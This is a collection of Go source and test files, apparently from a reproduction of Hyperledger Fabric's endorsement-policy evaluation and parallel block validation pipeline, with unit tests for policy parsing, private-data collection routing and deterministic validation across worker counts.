		got := tt.principal.Match(certs(tt.cert)[0])
		if got != tt.want {
			t.Errorf("%v.Match(%s) = %v, want %v", tt.principal, tt.cert, got, tt.want)
		}
	}
}

func TestEvaluateSignaturePolicies(t *testing.T) {
	tests := []struct {
		policy  string
		signers []string
		want    bool
	}{
		{"AND(org1.peer, org2.peer)", []string{"org1.peer", "org2.peer"}, true},
		{"AND(org1.peer, org2.peer)", []string{"org1.peer"}, false},
		{"AND(org1.peer, org2.peer)", []string{"org1.peer", "org3.peer"}, false},
		{"OR(org1.peer, org2.peer)", []string{"org2.peer"}, true},
		{"OR(org1.peer, org2.peer)", []string{"org3.peer"}, false},
		{"OutOf(2, org1.peer, org2.peer, org3.peer)", []string{"org1.peer", "org3.peer"}, true},
		{"OutOf(2, org1.peer, org2.peer, org3.peer)", []string{"org3.peer"}, false},
		// The paper's §IV-A5 example: two non-member orgs satisfy
		// 2OutOf5.
		{"2OutOf(org1.peer, org2.peer, org3.peer, org4.peer, org5.peer)",
			[]string{"org3.peer", "org4.peer"}, true},
		{"2OutOf(org1.peer, org2.peer, org3.peer, org4.peer, org5.peer)",
			[]string{"org4.peer"}, false},
		// Nested.
		{"AND(org1.peer, OR(org2.peer, org3.peer))", []string{"org1.peer", "org3.peer"}, true},
		{"AND(org1.peer, OR(org2.peer, org3.peer))", []string{"org2.peer", "org3.peer"}, false},
		// member role leaf.
		{"OR(org1.member)", []string{"org1.client"}, true},
	}
	for _, tt := range tests {
		pol, err := Parse(tt.policy)
		if err != nil {
			t.Fatalf("parse %q: %v", tt.policy, err)
		}
		if got := pol.Evaluate(certs(tt.signers...)); got != tt.want {
			t.Errorf("%q with %v = %v, want %v", tt.policy, tt.signers, got, tt.want)
		}
	}
}

func TestParseErrors(t *testing.T) {
	bad := []string{
		"",
		"AND",
		"AND(",
		"AND()",
		"org1",
		"org1.",
		"org1.superuser",
		"XOR(org1.peer)",
		"OutOf(0, org1.peer)",
		"OutOf(3, org1.peer, org2.peer)",
		"OutOf(x, org1.peer)",
		"AND(org1.peer) trailing",
		"7OutOf(org1.peer)",
	}
	for _, src := range bad {
		if _, err := Parse(src); err == nil {
			t.Errorf("Parse(%q) succeeded, want error", src)
		}
	}
}

func TestParseRoundTripThroughString(t *testing.T) {
	srcs := []string{
		"AND(org1.peer, org2.peer)",
		"OR(org1.member, org2.admin)",
		"OutOf(2, org1.peer, org2.peer, org3.peer)",
		"AND(org1.peer, OR(org2.peer, OutOf(1, org3.client)))",
	}
	for _, src := range srcs {
		pol := MustParse(src)
		again, err := Parse(pol.String())
		if err != nil {
			t.Fatalf("re-parse %q (from %q): %v", pol.String(), src, err)
		}
		if again.String() != pol.String() {
			t.Errorf("round trip: %q -> %q", pol.String(), again.String())
		}
	}
}

func TestImplicitMetaSpecParsing(t *testing.T) {
	tests := []struct {
		src      string
		wantRule MetaRule
		wantName string
		wantErr  bool
	}{
		{"MAJORITY Endorsement", MetaMajority, "Endorsement", false},
		{"ANY Endorsement", MetaAny, "Endorsement", false},
		{"ALL Endorsement", MetaAll, "Endorsement", false},
		{`ImplicitMeta:"MAJORITY Endorsement"`, MetaMajority, "Endorsement", false},
		{"majority Endorsement", MetaMajority, "Endorsement", false},
		{"SOME Endorsement", "", "", true},
		{"MAJORITY", "", "", true},
		{"AND(org1.peer)", "", "", true},
	}
	for _, tt := range tests {
		rule, name, err := ParseImplicitMetaSpec(tt.src)
		if tt.wantErr {
			if err == nil {
				t.Errorf("ParseImplicitMetaSpec(%q) succeeded", tt.src)
			}
			continue
		}
		if err != nil {
			t.Errorf("ParseImplicitMetaSpec(%q): %v", tt.src, err)
			continue
		}
		if rule != tt.wantRule || name != tt.wantName {
			t.Errorf("ParseImplicitMetaSpec(%q) = (%v, %q)", tt.src, rule, name)
		}
	}
}

func orgPolicies(orgs ...string) map[string]Policy {
	out := make(map[string]Policy, len(orgs))
	for _, org := range orgs {
		out[org] = MustParse("OR(" + org + ".peer)")
	}
	return out
}

func TestImplicitMetaEvaluation(t *testing.T) {
	tests := []struct {
		rule    MetaRule
		orgs    []string
		signers []string
		want    bool
	}{
		{MetaMajority, []string{"org1", "org2", "org3"}, []string{"org1.peer", "org3.peer"}, true},
		{MetaMajority, []string{"org1", "org2", "org3"}, []string{"org1.peer"}, false},
		{MetaMajority, []string{"org1", "org2"}, []string{"org1.peer"}, false}, // 1 of 2 is not majority
		{MetaMajority, []string{"org1", "org2"}, []string{"org1.peer", "org2.peer"}, true},
		{MetaAny, []string{"org1", "org2", "org3"}, []string{"org2.peer"}, true},
		{MetaAny, []string{"org1", "org2", "org3"}, nil, false},
		{MetaAll, []string{"org1", "org2"}, []string{"org1.peer", "org2.peer"}, true},
		{MetaAll, []string{"org1", "org2"}, []string{"org1.peer"}, false},
	}
	for _, tt := range tests {
		meta, err := ResolveImplicitMeta(tt.rule, "Endorsement", orgPolicies(tt.orgs...))
		if err != nil {
			t.Fatal(err)
		}
		if got := meta.Evaluate(certs(tt.signers...)); got != tt.want {
			t.Errorf("%v over %v with %v = %v, want %v", tt.rule, tt.orgs, tt.signers, got, tt.want)
		}
	}

	if _, err := ResolveImplicitMeta(MetaMajority, "Endorsement", nil); err == nil {
		t.Error("ResolveImplicitMeta with no orgs should fail")
	}
}

// TestMajorityEq1MatchesStrictMajority checks the paper's Eq. (1) against
// the direct definition 2s > n for all inputs in range.
func TestMajorityEq1MatchesStrictMajority(t *testing.T) {
	f := func(s, n uint8) bool {
		nn := int(n%50) + 1
		ss := int(s) % (nn + 1)
		want := 0
		if 2*ss > nn {
			want = 1
		}
		return MajorityEq1(ss, nn) == want
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
	if MajorityEq1(1, 0) != 0 {
		t.Error("MajorityEq1 with n=0 should be 0")
	}
}

// TestEvaluationMonotonic checks that adding signers never flips a
// satisfied policy to unsatisfied (policies are monotone boolean
// functions).
func TestEvaluationMonotonic(t *testing.T) {
	pols := []Policy{
		MustParse("AND(org1.peer, org2.peer)"),
		MustParse("OR(org1.peer, org2.peer, org3.peer)"),
		MustParse("OutOf(2, org1.peer, org2.peer, org3.peer, org4.peer)"),
	}
	all := []string{"org1.peer", "org2.peer", "org3.peer", "org4.peer", "org5.peer"}
	f := func(mask, extra uint8) bool {
		var base, more []string
		for i, s := range all {
			if mask&(1<<i) != 0 {
				base = append(base, s)
			}
			if (mask|extra)&(1<<i) != 0 {
				more = append(more, s)
			}
		}
		for _, pol := range pols {
			if pol.Evaluate(certs(base...)) && !pol.Evaluate(certs(more...)) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// TestOutOfEquivalences checks OutOf(n,...) == AND when n = len and == OR
// when n = 1, over random signer subsets.
func TestOutOfEquivalences(t *testing.T) {
	subs := []string{"org1.peer", "org2.peer", "org3.peer"}
	leaf := func(s string) Policy { return MustParse("OR(" + s + ")") }
	andP := And(leaf(subs[0]), leaf(subs[1]), leaf(subs[2]))
	outAll := OutOf(3, leaf(subs[0]), leaf(subs[1]), leaf(subs[2]))
	orP := Or(leaf(subs[0]), leaf(subs[1]), leaf(subs[2]))
	out1 := OutOf(1, leaf(subs[0]), leaf(subs[1]), leaf(subs[2]))

	f := func(mask uint8) bool {
		var signers []string
		for i, s := range subs {
			if mask&(1<<i) != 0 {
				signers = append(signers, s)
			}
		}
		cs := certs(signers...)
		return andP.Evaluate(cs) == outAll.Evaluate(cs) && orP.Evaluate(cs) == out1.Evaluate(cs)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestPrincipalsDeduplicated(t *testing.T) {
	pol := MustParse("AND(org1.peer, OR(org1.peer, org2.peer))")
	ps := pol.Principals()
	if len(ps) != 2 {
		t.Fatalf("principals = %v, want 2 unique", ps)
	}
}

func TestImplicitMetaPrincipals(t *testing.T) {
	meta, err := ResolveImplicitMeta(MetaMajority, "Endorsement", orgPolicies("org2", "org1"))
	if err != nil {
		t.Fatal(err)
	}
	ps := meta.Principals()
	if len(ps) != 2 || ps[0].Org != "org1" || ps[1].Org != "org2" {
		t.Fatalf("principals = %v, want sorted org1, org2", ps)
	}
	if meta.String() != "MAJORITY Endorsement" {
		t.Fatalf("String = %q", meta.String())
	}
}

func TestNilSignerSkipped(t *testing.T) {
	pol := MustParse("OR(org1.peer)")
	if pol.Evaluate([]*identity.Certificate{nil}) {
		t.Error("nil signer satisfied a policy")
	}
}
