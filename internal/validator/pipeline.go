// Parallel block validation pipeline (docs/VALIDATION.md).
//
// The validation phase does two very different kinds of work per
// transaction: expensive, state-independent proof-of-policy checks
// (certificate validation, ECDSA endorsement-signature verification,
// evaluation of the collection- and chaincode-level policies over the
// verified signers) and cheap, state-dependent checks plus the commit
// (key-level policy routing, MVCC version comparison, world-state
// writes). The first kind is embarrassingly parallel — no transaction's
// verdict depends on any other transaction — so it fans out across a
// bounded worker pool, mirroring Fabric's parallel VSCC validation. The
// second kind consumes the prechecks strictly in block order, so
// version-conflict semantics (and therefore every validation flag, the
// world state and the block hash chain) are bit-identical to a fully
// sequential run.
package validator

import (
	"fmt"
	"runtime"
	"sync"
	"time"

	"repro/internal/ledger"
	"repro/internal/metrics"
)

// workerCount resolves the configured pool size: ValidationWorkers when
// positive, else GOMAXPROCS.
func (v *Validator) workerCount() int {
	if v.sec.ValidationWorkers > 0 {
		return v.sec.ValidationWorkers
	}
	return runtime.GOMAXPROCS(0)
}

// preValidateBlock runs preValidate over every transaction of the block,
// fanning out across the worker pool. The returned slice is indexed like
// block.Transactions. With one worker (or one transaction) no goroutine
// is spawned.
func (v *Validator) preValidateBlock(txs []*ledger.Transaction) []*txPrecheck {
	out := make([]*txPrecheck, len(txs))
	workers := v.workerCount()
	if workers > len(txs) {
		workers = len(txs)
	}
	if workers <= 1 {
		for i, tx := range txs {
			out[i] = v.preValidate(tx)
		}
		return out
	}
	idx := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range idx {
				out[i] = v.preValidate(txs[i])
			}
		}()
	}
	for i := range txs {
		idx <- i
	}
	close(idx)
	wg.Wait()
	return out
}

// ValidateAndCommit runs the validation phase over a block: the
// state-independent prechecks of every transaction fan out across the
// worker pool, then — in block order — each transaction's validation is
// completed against the current world state, its flag is recorded in the
// block metadata, and valid transactions are committed. Finally the
// block is appended to the blockchain.
//
// Ordering guarantee: the sequential stage observes transactions in
// block order, so a transaction sees exactly the world state left by the
// valid transactions before it — identical to validating and committing
// one transaction at a time.
func (v *Validator) ValidateAndCommit(block *ledger.Block) error {
	pres := v.preValidateBlock(block.Transactions)
	for i, tx := range block.Transactions {
		code := v.finishValidate(pres[i])
		// Register the ID as committed-to-chain (whatever its code —
		// the whole block is appended). Add doubles as the in-block
		// duplicate check: the parallel precheck can't see an earlier
		// instance in the same block, but the sequential Add here can.
		if v.dedupe != nil && !v.dedupe.Add(tx.TxID) {
			code = ledger.DuplicateTxID
		}
		block.Metadata.ValidationFlags[i] = code
		if code == ledger.Valid {
			commitStart := time.Now()
			v.commitTx(block.Header.Number, tx)
			v.observe(metrics.ValidateCommit, commitStart)
		}
	}
	if err := v.blocks.Append(block); err != nil {
		return fmt.Errorf("validator %s: %w", v.selfName, err)
	}
	v.pvt.PurgeUpTo(block.Header.Number)
	return nil
}

// ValidateBlock runs the full validation pipeline over a block — the
// parallel prechecks plus the sequential policy/MVCC completion — but
// performs no commit and does not append the block. It returns one
// validation code per transaction. Because nothing is committed, the
// state-dependent checks of every transaction see the pre-block world
// state; for blocks whose transactions are independent this equals
// ValidateAndCommit's flags. Benchmarks and inspection tooling use this
// to re-validate the same block repeatedly.
func (v *Validator) ValidateBlock(block *ledger.Block) []ledger.ValidationCode {
	pres := v.preValidateBlock(block.Transactions)
	codes := make([]ledger.ValidationCode, len(pres))
	for i, pre := range pres {
		codes[i] = v.finishValidate(pre)
	}
	return codes
}
