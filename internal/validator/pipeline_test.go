package validator

import (
	"reflect"
	"testing"

	"repro/internal/chaincode"
	"repro/internal/channel"
	"repro/internal/core"
	"repro/internal/gossip"
	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/metrics"
	"repro/internal/pvtdata"
	"repro/internal/rwset"
	"repro/internal/statedb"
)

// pipelineFixture shares one channel (CAs, identities, chaincode
// definition) across several independent validators, so the same signed
// block can be validated under different worker counts and the results
// compared byte for byte.
type pipelineFixture struct {
	cfg   *channel.Config
	def   *chaincode.Definition
	peers map[string]*identity.Identity
}

func newPipelineFixture(t *testing.T) *pipelineFixture {
	t.Helper()
	orgs := []string{"org1", "org2", "org3"}
	var orgCfgs []channel.OrgConfig
	peers := make(map[string]*identity.Identity, len(orgs))
	for _, org := range orgs {
		ca, err := identity.NewCA(org)
		if err != nil {
			t.Fatal(err)
		}
		orgCfgs = append(orgCfgs, channel.OrgConfig{Name: org, CAPub: ca.PublicKey()})
		id, err := ca.Issue("peer0."+org, identity.RolePeer)
		if err != nil {
			t.Fatal(err)
		}
		peers[org] = id
	}
	return &pipelineFixture{
		cfg: channel.NewConfig("c1", orgCfgs...),
		def: &chaincode.Definition{
			Name:    "cc",
			Version: "1.0",
			Collections: []pvtdata.CollectionConfig{{
				Name:         "pdc1",
				MemberPolicy: "OR(org1.member, org2.member)",
				MaxPeerCount: 3,
			}},
		},
		peers: peers,
	}
}

// pipelinePeer is one isolated validator (own world state, private
// store, blockchain) configured with a fixed worker count.
type pipelinePeer struct {
	v        *Validator
	db       *statedb.DB
	blocks   *ledger.BlockStore
	counters *metrics.Counters
	timings  *metrics.Timings
}

func (f *pipelineFixture) newPeer(workers int) *pipelinePeer {
	db := statedb.New()
	sec := core.OriginalFabric()
	sec.ValidationWorkers = workers
	p := &pipelinePeer{
		db:       db,
		blocks:   ledger.NewBlockStore(),
		counters: &metrics.Counters{},
		timings:  &metrics.Timings{},
	}
	p.v = New(Config{
		SelfName:  "peer0.org2",
		SelfOrg:   "org2",
		Channel:   f.cfg,
		Verifier:  f.cfg.Verifier(),
		Defs:      func(name string) *chaincode.Definition { return map[string]*chaincode.Definition{"cc": f.def}[name] },
		DB:        db,
		Pvt:       pvtdata.NewStore(db),
		Transient: pvtdata.NewTransientStore(),
		Gossip:    gossip.NewNetwork(),
		Blocks:    p.blocks,
		Security:  sec,
		Metrics:   p.counters,
		Timings:   p.timings,
	})
	return p
}

// tx assembles an endorsed transaction over the given rwset.
func (f *pipelineFixture) tx(t *testing.T, txID string, set *rwset.TxRWSet, endorsers ...string) *ledger.Transaction {
	t.Helper()
	prp := &ledger.ProposalResponsePayload{
		TxID:      txID,
		Chaincode: "cc",
		Response:  ledger.Response{Status: ledger.StatusOK},
		Results:   set.Marshal(),
	}
	tx := &ledger.Transaction{
		TxID:            txID,
		ChannelID:       "c1",
		Proposal:        &ledger.Proposal{TxID: txID, Chaincode: "cc"},
		ResponsePayload: prp.Bytes(),
	}
	for _, org := range endorsers {
		id := f.peers[org]
		sig, err := id.Sign(tx.ResponsePayload)
		if err != nil {
			t.Fatal(err)
		}
		tx.Endorsements = append(tx.Endorsements, ledger.Endorsement{
			Endorser:  id.Cert.Bytes(),
			Signature: sig,
		})
	}
	return tx
}

func writeSet(t *testing.T, txID, key string) *rwset.TxRWSet {
	t.Helper()
	b := rwset.NewBuilder()
	b.AddWrite("cc", key, rwset.KVWrite{Key: key, Value: []byte("v")})
	set, _ := b.Build(txID)
	return set
}

// determinismBlock builds a block whose correct validation depends on
// strict block-order semantics in the sequential stage:
//
//	t1 Valid      public write "a" under the majority policy
//	t2 MVCC       reads "a"@0, stale once t1 committed *in this block*
//	t3 Valid      meta-write installing key-level policy OR(org2.peer) on "kl"
//	t4 PolicyFail write to "kl" by a majority that fails t3's new policy
//	t5 Valid      write to "kl" by org2, exempt from the chaincode policy
//	t6 BadSig     corrupted endorsement signature
//	t7 Valid      private write, majority policy (no collection EP)
//	t8 PolicyFail single endorsement, no majority
//
// t2 and t4 are only classified correctly when the state-dependent
// checks observe the commits of t1 and t3; a pipeline that ran MVCC or
// key-level routing concurrently would misflag them.
func determinismBlock(t *testing.T, f *pipelineFixture) (*ledger.Block, []ledger.ValidationCode) {
	t.Helper()
	readA := rwset.NewBuilder()
	readA.AddRead("cc", "a", rwset.KVRead{Key: "a", Version: 0})
	readA.AddWrite("cc", "b", rwset.KVWrite{Key: "b", Value: []byte("v")})
	readASet, _ := readA.Build("t2")

	meta := rwset.NewBuilder()
	meta.AddMetaWrite("cc", "kl", rwset.KVMetaWrite{Key: "kl", Policy: "OR(org2.peer)"})
	metaSet, _ := meta.Build("t3")

	pvtW := rwset.NewBuilder()
	pvtW.AddPvtWrite("pdc1", "p", rwset.KVWrite{Key: "p", Value: []byte("secret")})
	pvtSet, _ := pvtW.Build("t7")

	badSig := f.tx(t, "t6", writeSet(t, "t6", "z"), "org1", "org2")
	badSig.Endorsements[1].Signature[0] ^= 0xff

	txs := []*ledger.Transaction{
		f.tx(t, "t1", writeSet(t, "t1", "a"), "org1", "org3"),
		f.tx(t, "t2", readASet, "org1", "org2"),
		f.tx(t, "t3", metaSet, "org1", "org2"),
		f.tx(t, "t4", writeSet(t, "t4", "kl"), "org1", "org3"),
		f.tx(t, "t5", writeSet(t, "t5", "kl"), "org2"),
		badSig,
		f.tx(t, "t7", pvtSet, "org1", "org3"),
		f.tx(t, "t8", writeSet(t, "t8", "y"), "org1"),
	}
	want := []ledger.ValidationCode{
		ledger.Valid,
		ledger.MVCCConflict,
		ledger.Valid,
		ledger.EndorsementPolicyFailure,
		ledger.Valid,
		ledger.BadSignature,
		ledger.Valid,
		ledger.EndorsementPolicyFailure,
	}
	return ledger.NewBlock(0, nil, txs), want
}

// TestPipelineDeterminism validates the same block with 1, 2 and 8
// workers and asserts identical validation flags, world state and block
// hashes — the regression gate for the pipeline's ordering guarantees.
// Run under -race to also exercise the worker pool for data races.
func TestPipelineDeterminism(t *testing.T) {
	f := newPipelineFixture(t)
	block, want := determinismBlock(t, f)

	type outcome struct {
		flags []ledger.ValidationCode
		state string
		hash  []byte
	}
	outcomes := make(map[int]outcome)
	for _, workers := range []int{1, 2, 8} {
		p := f.newPeer(workers)
		cp := block.Clone()
		if err := p.v.ValidateAndCommit(cp); err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		outcomes[workers] = outcome{
			flags: cp.Metadata.ValidationFlags,
			state: p.db.String(),
			hash:  p.blocks.LastHash(),
		}
	}

	base := outcomes[1]
	if !reflect.DeepEqual(base.flags, want) {
		t.Fatalf("sequential flags = %v, want %v", base.flags, want)
	}
	for _, workers := range []int{2, 8} {
		got := outcomes[workers]
		if !reflect.DeepEqual(got.flags, base.flags) {
			t.Errorf("workers=%d flags = %v, want %v", workers, got.flags, base.flags)
		}
		if got.state != base.state {
			t.Errorf("workers=%d world state diverged:\n%s\nvs sequential:\n%s", workers, got.state, base.state)
		}
		if string(got.hash) != string(base.hash) {
			t.Errorf("workers=%d block hash diverged", workers)
		}
	}
}

// TestPipelineValidateBlock checks the commit-free pipeline entry point
// used by benchmarks: repeated runs return identical codes and leave no
// trace in the world state or the chain.
func TestPipelineValidateBlock(t *testing.T) {
	f := newPipelineFixture(t)
	p := f.newPeer(4)
	txs := []*ledger.Transaction{
		f.tx(t, "t1", writeSet(t, "t1", "a"), "org1", "org2"),
		f.tx(t, "t2", writeSet(t, "t2", "b"), "org2", "org3"),
		f.tx(t, "t3", writeSet(t, "t3", "c"), "org1"),
	}
	block := ledger.NewBlock(0, nil, txs)
	want := []ledger.ValidationCode{ledger.Valid, ledger.Valid, ledger.EndorsementPolicyFailure}
	for run := 0; run < 3; run++ {
		if got := p.v.ValidateBlock(block); !reflect.DeepEqual(got, want) {
			t.Fatalf("run %d: codes = %v, want %v", run, got, want)
		}
	}
	if h := p.blocks.Height(); h != 0 {
		t.Fatalf("ValidateBlock appended a block: height %d", h)
	}
	if _, _, ok := p.db.Get("cc", "a"); ok {
		t.Fatal("ValidateBlock committed a write")
	}
}

// TestPipelineMetrics checks that the pipeline emits the four per-phase
// histograms and that the verify cache reports hits for repeat
// endorsers within a block.
func TestPipelineMetrics(t *testing.T) {
	f := newPipelineFixture(t)
	p := f.newPeer(2)
	txs := make([]*ledger.Transaction, 0, 4)
	for _, id := range []string{"m1", "m2", "m3", "m4"} {
		txs = append(txs, f.tx(t, id, writeSet(t, id, "k"+id), "org1", "org2"))
	}
	if err := p.v.ValidateAndCommit(ledger.NewBlock(0, nil, txs)); err != nil {
		t.Fatal(err)
	}
	snap := p.timings.Snapshot()
	for _, name := range []string{
		metrics.ValidateVerify, metrics.ValidatePolicy,
		metrics.ValidateMVCC, metrics.ValidateCommit,
	} {
		h, ok := snap[name]
		if !ok || h.Count == 0 {
			t.Errorf("histogram %s missing or empty", name)
		}
	}
	// 8 endorsements from 2 distinct endorsers: the first verification
	// of each certificate misses, every later one hits at least the
	// certificate cache.
	if hits := p.counters.Get(metrics.VerifyCacheHits); hits < 6 {
		t.Errorf("verify cache hits = %d, want >= 6", hits)
	}
	if misses := p.counters.Get(metrics.VerifyCacheMisses); misses == 0 || misses > 2 {
		t.Errorf("verify cache misses = %d, want 1..2", misses)
	}
}
