package validator

import (
	"testing"

	"repro/internal/chaincode"
	"repro/internal/channel"
	"repro/internal/core"
	"repro/internal/gossip"
	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/pvtdata"
	"repro/internal/rwset"
	"repro/internal/statedb"
)

// fixture wires a Validator for org2 in a 3-org channel, with the signing
// identities of each org's peer available for crafting endorsements.
type fixture struct {
	v        *Validator
	db       *statedb.DB
	pvt      *pvtdata.Store
	peers    map[string]*identity.Identity
	def      *chaincode.Definition
	security core.SecurityConfig
}

func newFixture(t *testing.T, sec core.SecurityConfig, collEP string) *fixture {
	t.Helper()
	orgs := []string{"org1", "org2", "org3"}
	var orgCfgs []channel.OrgConfig
	peers := make(map[string]*identity.Identity, len(orgs))
	for _, org := range orgs {
		ca, err := identity.NewCA(org)
		if err != nil {
			t.Fatal(err)
		}
		orgCfgs = append(orgCfgs, channel.OrgConfig{Name: org, CAPub: ca.PublicKey()})
		id, err := ca.Issue("peer0."+org, identity.RolePeer)
		if err != nil {
			t.Fatal(err)
		}
		peers[org] = id
	}
	cfg := channel.NewConfig("c1", orgCfgs...)
	def := &chaincode.Definition{
		Name:    "cc",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:              "pdc1",
			MemberPolicy:      "OR(org1.member, org2.member)",
			MaxPeerCount:      3,
			EndorsementPolicy: collEP,
		}},
	}
	db := statedb.New()
	pvt := pvtdata.NewStore(db)
	f := &fixture{
		db:       db,
		pvt:      pvt,
		peers:    peers,
		def:      def,
		security: sec,
	}
	f.v = New(Config{
		SelfName:  "peer0.org2",
		SelfOrg:   "org2",
		Channel:   cfg,
		Verifier:  cfg.Verifier(),
		Defs:      func(name string) *chaincode.Definition { return map[string]*chaincode.Definition{"cc": def}[name] },
		DB:        db,
		Pvt:       pvt,
		Transient: pvtdata.NewTransientStore(),
		Gossip:    gossip.NewNetwork(),
		Blocks:    ledger.NewBlockStore(),
		Security:  sec,
	})
	return f
}

// tx assembles a transaction over the given rwset, endorsed by the named
// orgs' peers.
func (f *fixture) tx(t *testing.T, set *rwset.TxRWSet, endorsers ...string) *ledger.Transaction {
	t.Helper()
	prp := &ledger.ProposalResponsePayload{
		TxID:      "tx1",
		Chaincode: "cc",
		Response:  ledger.Response{Status: ledger.StatusOK},
		Results:   set.Marshal(),
	}
	tx := &ledger.Transaction{
		TxID:            "tx1",
		ChannelID:       "c1",
		Proposal:        &ledger.Proposal{TxID: "tx1", Chaincode: "cc"},
		ResponsePayload: prp.Bytes(),
	}
	for _, org := range endorsers {
		id := f.peers[org]
		sig, err := id.Sign(tx.ResponsePayload)
		if err != nil {
			t.Fatal(err)
		}
		tx.Endorsements = append(tx.Endorsements, ledger.Endorsement{
			Endorser:  id.Cert.Bytes(),
			Signature: sig,
		})
	}
	return tx
}

func publicWriteSet(key string) *rwset.TxRWSet {
	b := rwset.NewBuilder()
	b.AddWrite("cc", key, rwset.KVWrite{Key: key, Value: []byte("v")})
	set, _ := b.Build("tx1")
	return set
}

func pvtReadSet() *rwset.TxRWSet {
	b := rwset.NewBuilder()
	b.AddPvtRead("pdc1", "k", rwset.KVRead{Key: "k", Version: 0})
	set, _ := b.Build("tx1")
	return set
}

func pvtWriteSet() *rwset.TxRWSet {
	b := rwset.NewBuilder()
	b.AddPvtWrite("pdc1", "k", rwset.KVWrite{Key: "k", Value: []byte("v")})
	set, _ := b.Build("tx1")
	return set
}

func TestPolicyRoutingOriginalFabric(t *testing.T) {
	// Original framework, no collection EP: everything validates against
	// the channel default MAJORITY.
	f := newFixture(t, core.OriginalFabric(), "")
	if code := f.v.ValidateTx(f.tx(t, publicWriteSet("k"), "org1", "org3")); code != ledger.Valid {
		t.Fatalf("majority public write = %v", code)
	}
	if code := f.v.ValidateTx(f.tx(t, publicWriteSet("k"), "org1")); code != ledger.EndorsementPolicyFailure {
		t.Fatalf("minority public write = %v", code)
	}
	// PDC write: chaincode-level policy applies (Use Case 2) — two
	// non/mixed-member endorsements pass.
	if code := f.v.ValidateTx(f.tx(t, pvtWriteSet(), "org1", "org3")); code != ledger.Valid {
		t.Fatalf("pdc write under majority = %v", code)
	}
}

func TestPolicyRoutingCollectionEP(t *testing.T) {
	f := newFixture(t, core.OriginalFabric(), "AND(org1.peer, org2.peer)")
	// Write-related: collection EP replaces the chaincode policy.
	if code := f.v.ValidateTx(f.tx(t, pvtWriteSet(), "org1", "org3")); code != ledger.EndorsementPolicyFailure {
		t.Fatalf("pdc write without org2 = %v", code)
	}
	if code := f.v.ValidateTx(f.tx(t, pvtWriteSet(), "org1", "org2")); code != ledger.Valid {
		t.Fatalf("pdc write with members = %v", code)
	}
	// Read-only: chaincode-level policy still applies (Use Case 2).
	if code := f.v.ValidateTx(f.tx(t, pvtReadSet(), "org1", "org3")); code != ledger.Valid {
		t.Fatalf("pdc read routed to collection EP without Feature 1: %v", code)
	}
}

func TestPolicyRoutingFeature1(t *testing.T) {
	f := newFixture(t, core.Feature1Only(), "AND(org1.peer, org2.peer)")
	if code := f.v.ValidateTx(f.tx(t, pvtReadSet(), "org1", "org3")); code != ledger.EndorsementPolicyFailure {
		t.Fatalf("pdc read under Feature 1 = %v", code)
	}
	if code := f.v.ValidateTx(f.tx(t, pvtReadSet(), "org1", "org2")); code != ledger.Valid {
		t.Fatalf("member pdc read under Feature 1 = %v", code)
	}
}

func TestNonMemberFilter(t *testing.T) {
	f := newFixture(t, core.SecurityConfig{FilterNonMemberEndorsements: true}, "")
	// org3's endorsement is filtered; org1 alone is not a majority of 3.
	if code := f.v.ValidateTx(f.tx(t, pvtWriteSet(), "org1", "org3")); code != ledger.EndorsementPolicyFailure {
		t.Fatalf("filtered pdc write = %v", code)
	}
	// Both members clear the filter and the majority.
	if code := f.v.ValidateTx(f.tx(t, pvtWriteSet(), "org1", "org2")); code != ledger.Valid {
		t.Fatalf("member pdc write = %v", code)
	}
	// Public transactions are unaffected by the filter.
	if code := f.v.ValidateTx(f.tx(t, publicWriteSet("k"), "org1", "org3")); code != ledger.Valid {
		t.Fatalf("public write under filter = %v", code)
	}
}

func TestKeyLevelPolicyFallbacks(t *testing.T) {
	f := newFixture(t, core.OriginalFabric(), "")
	// A broken validation parameter must not brick the key: the
	// chaincode-level policy governs.
	f.db.Put(statedb.MetadataNamespace("cc"), "k", []byte("broken("))
	if code := f.v.ValidateTx(f.tx(t, publicWriteSet("k"), "org1", "org3")); code != ledger.Valid {
		t.Fatalf("broken key-level parameter bricked the key: %v", code)
	}
	// A valid parameter takes over.
	f.db.Put(statedb.MetadataNamespace("cc"), "k", []byte("OR(org2.peer)"))
	if code := f.v.ValidateTx(f.tx(t, publicWriteSet("k"), "org1", "org3")); code != ledger.EndorsementPolicyFailure {
		t.Fatalf("key-level policy not enforced: %v", code)
	}
	if code := f.v.ValidateTx(f.tx(t, publicWriteSet("k"), "org2")); code != ledger.Valid {
		t.Fatalf("key-level-authorized write rejected: %v", code)
	}
	// Other keys remain governed by the chaincode-level policy.
	if code := f.v.ValidateTx(f.tx(t, publicWriteSet("other"), "org2")); code != ledger.EndorsementPolicyFailure {
		t.Fatalf("single endorsement cleared majority: %v", code)
	}
}

func TestBadPayloadCodes(t *testing.T) {
	f := newFixture(t, core.OriginalFabric(), "")
	tx := f.tx(t, publicWriteSet("k"), "org1", "org2")
	tx.ResponsePayload = []byte("garbage")
	if code := f.v.ValidateTx(tx); code != ledger.BadPayload {
		t.Fatalf("garbage payload = %v", code)
	}

	tx = f.tx(t, publicWriteSet("k"), "org1", "org2")
	prp := &ledger.ProposalResponsePayload{TxID: "tx1", Chaincode: "ghost", Results: []byte("{}")}
	tx.ResponsePayload = prp.Bytes()
	if code := f.v.ValidateTx(tx); code != ledger.BadPayload {
		t.Fatalf("unknown chaincode = %v", code)
	}
}

func TestMissingPrivateDataBookkeeping(t *testing.T) {
	f := newFixture(t, core.OriginalFabric(), "")
	// org2 is a member but has no original private data anywhere (no
	// transient entry, no gossip peers): commit records it missing.
	tx := f.tx(t, pvtWriteSet(), "org1", "org2")
	block := ledger.NewBlock(0, nil, []*ledger.Transaction{tx})
	if err := f.v.ValidateAndCommit(block); err != nil {
		t.Fatal(err)
	}
	if block.Metadata.ValidationFlags[0] != ledger.Valid {
		t.Fatalf("tx = %v", block.Metadata.ValidationFlags[0])
	}
	missing := f.v.MissingPrivateData("tx1")
	if len(missing) != 1 || missing[0] != "pdc1" {
		t.Fatalf("missing = %v", missing)
	}
	// The hashed write is still committed.
	if f.pvt.HashedVersion("cc", "pdc1", hashOf("k")) != 1 {
